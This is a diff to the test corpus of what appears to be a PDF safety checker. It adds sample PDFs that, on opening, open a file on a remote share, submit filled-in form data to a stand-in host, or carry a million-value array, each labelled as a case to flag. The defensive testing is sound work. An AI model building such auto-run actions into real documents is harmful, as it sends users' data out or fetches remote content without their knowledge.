@@ -80,6 +80,10 @@ def link_to_a_page_of_the_web(document: pikepdf.Pdf) -> None:
     document.pages[0].Annots = pikepdf.Array([note])
 
 
+def wide(document: pikepdf.Pdf) -> None:
+    document.Root["/Wide"] = pikepdf.Object.parse(b"[" + b"0 " * 1_000_001 + b"]")
+
+
 def without_pages(document: pikepdf.Pdf) -> None:
     del document.pages[0]
 
@@ -380,6 +384,19 @@ CORPUS: tuple[tuple[str, str, Callable[[], bytes], str | None], ...] = (
         lambda: pdf(open_action("/JavaScript", JS="app.alert(1)")),
         "has_program",
     ),
+    (
+        "a PDF that opens another on a computer elsewhere",
+        "plan.pdf",
+        lambda: pdf(open_action("/GoToR", F="//elsewhere.example/share/a.pdf")),
+        "has_program",
+    ),
+    (
+        "a PDF that sends what is filled in",
+        "plan.pdf",
+        lambda: pdf(open_action("/SubmitForm", F="https://elsewhere.example/")),
+        "has_program",
+    ),
+    ("a PDF with a million values in one", "plan.pdf", lambda: pdf(wide), "too_much_inside"),
     (
         "a PDF that starts a program",
         "plan.pdf",
